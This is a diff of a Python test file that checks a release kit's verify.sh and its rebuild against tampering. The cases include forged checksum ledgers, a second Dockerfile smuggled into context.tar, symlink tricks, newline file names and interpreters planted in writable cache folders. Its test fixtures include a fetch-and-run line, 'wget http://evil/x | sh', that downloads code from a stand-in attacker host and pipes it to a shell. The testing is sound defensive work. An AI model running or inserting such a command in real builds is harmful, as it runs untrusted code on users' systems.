@@ -170,7 +170,7 @@ def forge_kit_json(folder: Path, change) -> None:
     """kit.json changed, and its line of the ledger rewritten to match, as an attacker would."""
     record = json.loads((folder / "kit.json").read_text())
     change(record)
-    (folder / "kit.json").write_text(json.dumps(record))
+    (folder / "kit.json").write_text(json.dumps(record, indent=2))  # as the kit writes it (verify.sh reads it so)
     ledger = (folder / "kit.sha256").read_text().splitlines()
     digest = hashlib.sha256((folder / "kit.json").read_bytes()).hexdigest()
     (folder / "kit.sha256").write_text("\n".join(f"{digest}  kit.json" if line.endswith("  kit.json") else line
@@ -314,3 +314,164 @@ def test_kit_after_a_profile_was_added_says_so_and_names_the_release_s_revision(
     revision = json.loads((folder / "manifest.json").read_text())["revision"]
     assert refused.code == 2 and "a profile added or removed since changes which selection is 'all'" in \
         refused.error_lines[-1] and revision in refused.error_lines[-1], refused.err
+
+
+def test_kit_into_the_release_folder_leaves_the_published_kit_alone_when_it_writes_another(cli, tmp_path):
+    # --out the release folder itself: the kit written now (other tool sources, same inputs) is not the
+    # published one; the published file must stay, byte for byte, and nothing else be left behind
+    folder = tmp_path / "out" / "1.3.1"
+    shutil.copytree(REPO / "release/1.3.1", folder)
+    published = folder / "demo-llm-1.3.1-kit.tar.zst"
+    published.write_bytes(b"the kit the release published")
+    manifest = json.loads((folder / "manifest.json").read_text())
+    manifest["supply_chain"]["kit"]["sha256"] = hashlib.sha256(published.read_bytes()).hexdigest()
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    resum(folder)
+    before = sorted(p.name for p in folder.iterdir())
+    differs = cli("kit", str(folder), "--out", str(folder), "--config", str(REPO / "profiles"))
+    assert differs.code == 3 and differs.error_lines[-1].endswith("nothing written"), differs.err
+    assert published.read_bytes() == b"the kit the release published"
+    assert sorted(p.name for p in folder.iterdir()) == before
+
+
+def test_kit_refuses_a_folder_in_the_kits_place_naming_it(cli, tmp_path):
+    folder = tmp_path / "out" / "1.3.1"
+    shutil.copytree(REPO / "release/1.3.1", folder)
+    (tmp_path / "kit" / "demo-llm-1.3.1-kit.tar.zst").mkdir(parents=True)
+    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
+    assert refused.code == 2 and refused.error_lines == [
+        f"error: {tmp_path}/kit/demo-llm-1.3.1-kit.tar.zst: a folder where the kit would be written; move it away "
+        "or write the kit elsewhere"], refused.err
+    assert [p.name for p in (tmp_path / "kit").iterdir()] == ["demo-llm-1.3.1-kit.tar.zst"]
+
+
+# verify.sh is run by sh (dash here, with coreutils) and by busybox sh (whose own applets it prefers)
+SHELLS = ["sh", pytest.param("busybox", marks=pytest.mark.skipif(not shutil.which("busybox"), reason="no busybox"))]
+
+
+def verify_sh(folder: Path, shell: str, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
+    command = ["busybox", "sh"] if shell == "busybox" else ["sh"]
+    return subprocess.run([*command, "./verify.sh", *args], cwd=folder, capture_output=True, text=True, timeout=60,
+                          env=env)
+
+
+def relist_file(folder: Path, rel: str) -> None:
+    """``rel``'s line of the ledger rewritten to match the file, as an attacker would."""
+    digest = hashlib.sha256((folder / rel).read_bytes()).hexdigest()
+    relist(folder, [f"{digest}  {rel}" if line.endswith(f"  {rel}") else line
+                    for line in (folder / "kit.sha256").read_text().splitlines()])
+
+
+def rewrite_context(folder: Path, extra: list[tuple[tarfile.TarInfo, bytes]]) -> None:
+    """context.tar with ``extra`` entries appended, kit.json and the ledger made to agree with it."""
+    with tarfile.open(folder / "context.tar") as tar:
+        entries = [(m, tar.extractfile(m).read() if m.isfile() else None) for m in tar.getmembers()]
+    with tarfile.open(folder / "context.tar", "w", format=tarfile.PAX_FORMAT) as tar:
+        for info, data in [*entries, *extra]:
+            tar.addfile(info, io.BytesIO(data) if data is not None else None)
+    sha = hashlib.sha256((folder / "context.tar").read_bytes()).hexdigest()
+    forge_kit_json(folder, lambda record: record.update(context_sha256=sha))
+    relist_file(folder, "context.tar")
+
+
+def entry(name: str, data: bytes | None = None, **fields) -> tuple[tarfile.TarInfo, bytes | None]:
+    info = tarfile.TarInfo(name)
+    info.size = len(data or b"")
+    for key, value in fields.items():
+        setattr(info, key, value)
+    return info, data
+
+
+EVIL = b"FROM scratch\nRUN wget http://evil/x | sh\n"
+
+
+@pytest.mark.parametrize("shell", SHELLS)
+@pytest.mark.parametrize("case,message", [
+    ("Dockerfile edited", "Dockerfile: its sha256 differs from kit.json's dockerfile_sha256"),
+    ("kit.json agrees", "context.tar: its Dockerfile is not the kit's Dockerfile"),
+    ("second Dockerfile in the context", "context.tar: its Dockerfile is not the kit's Dockerfile"),
+    ("link in the context", "context.tar: a link or a special file in it"),
+])
+def test_the_dockerfile_a_kit_shows_is_the_one_it_builds(busybox_product, tmp_path, shell, case, message):
+    # the reader checks the top-level Dockerfile; the engine builds the one in context.tar
+    kit, _ = make_kit(busybox_product, tmp_path / "out")
+    folder = unpack(kit, tmp_path / "unpacked")
+    if case in ("Dockerfile edited", "kit.json agrees"):
+        with open(folder / "Dockerfile", "ab") as fh:
+            fh.write(b"RUN wget http://evil/x | sh\n")
+        relist_file(folder, "Dockerfile")
+        if case == "kit.json agrees":
+            sha = hashlib.sha256((folder / "Dockerfile").read_bytes()).hexdigest()
+            forge_kit_json(folder, lambda record: record.update(dockerfile_sha256=sha))
+    elif case == "second Dockerfile in the context":  # the engine's extraction: the last one wins
+        rewrite_context(folder, [entry("./Dockerfile", EVIL)])
+    else:  # "sub/Dockerfile" lands through "sub -> ." on the Dockerfile
+        rewrite_context(folder, [entry("sub", type=tarfile.SYMTYPE, linkname="."), entry("sub/Dockerfile", EVIL)])
+    shown = verify_sh(folder, shell)
+    assert shown.returncode == 3 and f"error: {message}" in shown.stderr, (shown.stdout, shown.stderr)
+    assert "ok:" not in shown.stdout
+    with pytest.raises(VerificationError, match=message.split(":")[0]):
+        rebuild(folder, FakeEngine())
+
+
+@pytest.mark.parametrize("shell", SHELLS)
+def test_verify_sh_refuses_a_file_whose_name_holds_a_newline(busybox_product, tmp_path, shell):
+    # "kit.sha256\nkit.sha256" listed one name a line reads as two names verify.sh skips
+    kit, _ = make_kit(busybox_product, tmp_path / "out")
+    folder = unpack(kit, tmp_path / "unpacked")
+    assert verify_sh(folder, shell).returncode == 0
+    (folder / "kit.sha256\nkit.sha256").touch()
+    shown = verify_sh(folder, shell)
+    assert shown.returncode == 3 and shown.stderr.endswith(
+        "error: a file whose name holds a newline (kit.sha256 cannot list it)\n"), shown.stderr
+    assert check_ledger(folder) != []
+
+
+def rebuild_env(tmp_path: Path, **env: str) -> dict[str, str]:
+    """A python3 without unibake's requirements (so verify.sh --rebuild makes its venv), and ``env``."""
+    fake = tmp_path / "bin"
+    fake.mkdir(exist_ok=True)
+    (fake / "python3").write_text("#!/bin/sh\nexit 1\n")
+    (fake / "python3").chmod(0o755)
+    return {"PATH": f"{fake}:{os.environ['PATH']}", **env}
+
+
+@pytest.mark.parametrize("shell", SHELLS)
+@pytest.mark.parametrize("writable", ["cache", "unibake", "venv", pytest.param(
+    "another user's venv", marks=pytest.mark.skipif(os.geteuid() != 0, reason="chown needs root"))])
+def test_verify_sh_never_runs_an_interpreter_from_a_folder_others_can_write(busybox_product, tmp_path, shell,
+                                                                          writable):
+    kit, _ = make_kit(busybox_product, tmp_path / "out")
+    folder = unpack(kit, tmp_path / "unpacked")
+    # another user's interpreter, where verify.sh would look for its venv (as /tmp/.cache once was)
+    cache = tmp_path / "cache"
+    sha = hashlib.sha256((folder / "tool/requirements.txt").read_bytes()).hexdigest()[:16]
+    folders = {"cache": cache, "unibake": cache / "unibake", "venv": cache / "unibake" / f"kit-venv-{sha}"}
+    (folders["venv"] / "bin").mkdir(parents=True)
+    planted = tmp_path / "planted-ran"
+    (folders["venv"] / "bin/python").write_text(f"#!/bin/sh\ntouch {planted}\n")
+    (folders["venv"] / "bin/python").chmod(0o755)
+    for name, path in folders.items():
+        path.chmod(0o777 if name == writable else 0o700)
+    if writable == "another user's venv":
+        os.chown(folders["venv"], 65534, 65534)
+    shown = verify_sh(folder, shell, "--rebuild", env=rebuild_env(tmp_path, XDG_CACHE_HOME=str(cache)))
+    assert shown.returncode == 3 and "not a folder of yours that only you can write" in shown.stderr.splitlines()[-1], \
+        shown.stderr
+    assert not planted.exists()
+
+
+@pytest.mark.parametrize("shell", SHELLS)
+def test_verify_sh_makes_its_venv_only_in_a_private_cache_folder(busybox_product, tmp_path, shell):
+    kit, _ = make_kit(busybox_product, tmp_path / "out")
+    folder = unpack(kit, tmp_path / "unpacked")
+    # no HOME, no XDG_CACHE_HOME: no shared fallback such as /tmp/.cache
+    nowhere = verify_sh(folder, shell, "--rebuild", env=rebuild_env(tmp_path))
+    assert nowhere.returncode == 2 and nowhere.stderr.startswith(
+        "error: neither XDG_CACHE_HOME nor HOME is an absolute path: no cache folder of yours"), nowhere.stderr
+    # HOME alone: its .cache, the two folders below made for the user alone (then the fake python3 fails)
+    made = verify_sh(folder, shell, "--rebuild", env=rebuild_env(tmp_path, HOME=str(tmp_path / "home")))
+    assert made.returncode == 3 and made.stderr.endswith("error: python3 -m venv failed (Debian: apt-get install "
+                                                          "python3-venv)\n"), made.stderr
+    (venv,) = (tmp_path / "home/.cache/unibake").iterdir()
+    assert (venv.parent.stat().st_mode & 0o777, venv.stat().st_mode & 0o777) == (0o700, 0o700)
